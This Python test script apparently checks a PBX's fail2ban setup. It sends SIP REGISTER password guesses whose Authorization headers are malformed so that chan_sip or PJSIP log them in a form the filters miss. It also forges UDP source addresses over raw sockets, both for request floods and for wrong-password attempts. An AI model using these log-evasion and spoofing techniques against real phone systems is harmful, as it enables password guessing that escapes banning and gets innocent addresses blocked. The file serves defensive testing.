# SPDX-License-Identifier: GPL-3.0-or-later
"""What an outside tester sends that sipp and SIPVicious do not: password guesses whose logged line
is malformed, and requests with a forged UDP source address. Run on a client container (the
Molecule converge copies it to /opt/vpbx-sip/); prints one JSON line. Every loop is bounded.

  attacker.py guess <pbx> <user> <secret> <form> <count> [right]
      REGISTER, take the PBX's challenge, answer it in <form> with a wrong password (the right one
      with "right"), <count> times (at most 40), a new Call-ID each time.
      Prints {"answers": [status code or null when nothing came back within 3 s, ...]}.
  attacker.py forge <source> <pbx> <count>
      <count> requests (at most 70) for unknown users with <source> as the IP source address,
      REGISTER, INVITE, OPTIONS, SUBSCRIBE, MESSAGE, NOTIFY and REFER in turn (raw socket: the
      answers go to <source>, not here). Prints {"sent": n}.
  attacker.py forge-password <source> <pbx> <user> <count>
      <count> wrong passwords (at most 20) for <user> with <source> as the IP source address: each
      answers a challenge this host asked for, in the same dialog (Call-ID). Prints {"sent": n}.

The forms (docs/fail2ban.md, "Guesses the log hides"):
  plain          response="<32 hex>"
  backslash      response="<32 hex>\\"   chan_sip compares the first 32 characters, logs all of it
  quote          response=<32 hex>"     unquoted: chan_sip logs a raw quote
  decoy-escaped  a first Authorization header of another realm whose nonce ends in an escaped
                 quote, then the real one: PJSIP logs the first and verifies the second
  decoy-backslash  the same with a nonce ending in an escaped backslash
"""

from __future__ import annotations

import hashlib
import json
import re
import socket
import struct
import sys
import time

METHODS = ["REGISTER", "INVITE", "OPTIONS", "SUBSCRIBE", "MESSAGE", "NOTIFY", "REFER"]


def _local_ip(target):
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect((target, 5060))
    return probe.getsockname()[0]


def _request(method, target, user, via, call_id, cseq, extra=()):
    lines = ["%s sip:%s@%s SIP/2.0" % (method, user, target) if method != "REGISTER" else
             "REGISTER sip:%s SIP/2.0" % target,
             "Via: SIP/2.0/UDP %s;rport;branch=z9hG4bK-%s-%d" % (via, call_id.split("@")[0], cseq),
             "Max-Forwards: 70", "From: <sip:%s@%s>;tag=t%d" % (user, target, cseq),
             "To: <sip:%s@%s>" % (user, target), "Call-ID: %s" % call_id, "CSeq: %d %s" % (cseq, method),
             "Contact: <sip:%s@%s>" % (user, via), "Expires: 0"]
    if method == "SUBSCRIBE":
        lines.append("Event: presence")
    if method == "NOTIFY":
        lines.append("Event: check-sync")
    if method == "REFER":
        lines.append("Refer-To: <sip:1001@%s>" % target)
    return "\r\n".join(lines + list(extra) + ["Content-Length: 0", "", ""]).encode()


def _authorization(form, user, realm, nonce, target, response):
    common = 'Digest username="%s",realm="%s",nonce="%s",uri="sip:%s",algorithm=MD5,' % (user, realm, nonce, target)
    decoy = ('Authorization: Digest username="%s",realm="decoy",nonce="%%s",uri="sip:%s",response="%s",'
             'algorithm=MD5' % (user, target, response))
    return {
        "plain": ['Authorization: %sresponse="%s"' % (common, response)],
        "backslash": ['Authorization: %sresponse="%s\\"' % (common, response)],
        "quote": ['Authorization: %sresponse=%s"' % (common, response)],
        "decoy-escaped": [decoy % 'abc\\"', 'Authorization: %sresponse="%s"' % (common, response)],
        "decoy-backslash": [decoy % "abc\\\\", 'Authorization: %sresponse="%s"' % (common, response)],
    }[form]


def guess(target, user, secret, form, count, right=False):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("0.0.0.0", 0))
    sock.settimeout(3)
    via = "%s:%d" % (_local_ip(target), sock.getsockname()[1])

    def ask(message):
        sock.sendto(message, (target, 5060))
        deadline = time.monotonic() + 3
        while time.monotonic() < deadline:
            try:
                answer = sock.recv(65535).decode(errors="replace")
            except socket.timeout:
                return None
            if not answer.startswith("SIP/2.0 1"):
                return answer
        return None

    answers = []
    for n in range(min(count, 40)):
        call_id = "guess%d-%d@%s" % (n, int(time.time() * 1000), via.split(":")[0])
        challenge = ask(_request("REGISTER", target, user, via, call_id, 1))
        found = challenge and re.search(r'nonce="([^"]*)"', challenge)
        if not found:
            answers.append(int(challenge.split()[1]) if challenge else None)
            continue
        realm = re.search(r'realm="([^"]*)"', challenge).group(1)
        password = secret if right else "wrong-" + secret
        ha1 = hashlib.md5(("%s:%s:%s" % (user, realm, password)).encode()).hexdigest()
        ha2 = hashlib.md5(("REGISTER:sip:%s" % target).encode()).hexdigest()
        response = hashlib.md5(("%s:%s:%s" % (ha1, found.group(1), ha2)).encode()).hexdigest()
        answer = ask(_request("REGISTER", target, user, via, call_id, 2,
                              _authorization(form, user, realm, found.group(1), target, response)))
        answers.append(int(answer.split()[1]) if answer else None)
    return {"answers": answers}


def _checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def forged_datagram(source, target, payload, sport=5060, dport=5060):
    """An IPv4 packet carrying one UDP datagram from source to target."""
    length = 8 + len(payload)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, 17, length)
    udp = struct.pack("!HHHH", sport, dport, length, 0)
    udp = struct.pack("!HHHH", sport, dport, length, _checksum(pseudo + udp + payload) or 0xFFFF)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 0, 0, 64, 17, 0,
                         socket.inet_aton(source), socket.inet_aton(target))
    header = header[:10] + struct.pack("!H", _checksum(header)) + header[12:]
    return header + udp + payload


def forge(source, target, count):
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    for n in range(min(count, 70)):
        method = METHODS[n % len(METHODS)]
        payload = _request(method, target, "9%03d" % n, "%s:5060" % source, "forged%d-%d@%s" % (n, int(time.time()), source), 1)
        sock.sendto(forged_datagram(source, target, payload), (target, 0))
        sent += 1
        time.sleep(0.02)
    return {"sent": sent}


def forge_password(source, target, user, count):
    """Wrong passwords sent as source: the challenge comes to this host, the answer goes out forged."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("0.0.0.0", 0))
    sock.settimeout(3)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    via = "%s:%d" % (_local_ip(target), sock.getsockname()[1])
    sent = 0
    for n in range(min(count, 20)):
        call_id = "forgedpw%d-%d@x" % (n, int(time.time() * 1000))
        sock.sendto(_request("REGISTER", target, user, via, call_id, 1), (target, 5060))
        try:
            challenge = sock.recv(65535).decode(errors="replace")
        except socket.timeout:
            continue
        found = re.search(r'nonce="([^"]*)"', challenge)
        realm = re.search(r'realm="([^"]*)"', challenge)
        if not (found and realm):
            continue
        payload = _request("REGISTER", target, user, "%s:5060" % source, call_id, 2,
                           _authorization("plain", user, realm.group(1), found.group(1), target, "0" * 32))
        raw.sendto(forged_datagram(source, target, payload), (target, 0))
        sent += 1
    return {"sent": sent}


def main(argv):
    if argv[:1] == ["guess"] and len(argv) in (6, 7):
        result = guess(argv[1], argv[2], argv[3], argv[4], int(argv[5]), argv[6:] == ["right"])
    elif argv[:1] == ["forge"] and len(argv) == 4:
        result = forge(argv[1], argv[2], int(argv[3]))
    elif argv[:1] == ["forge-password"] and len(argv) == 5:
        result = forge_password(argv[1], argv[2], argv[3], int(argv[4]))
    else:
        sys.exit(__doc__)
    print(json.dumps(result))


if __name__ == "__main__":
    main(sys.argv[1:])
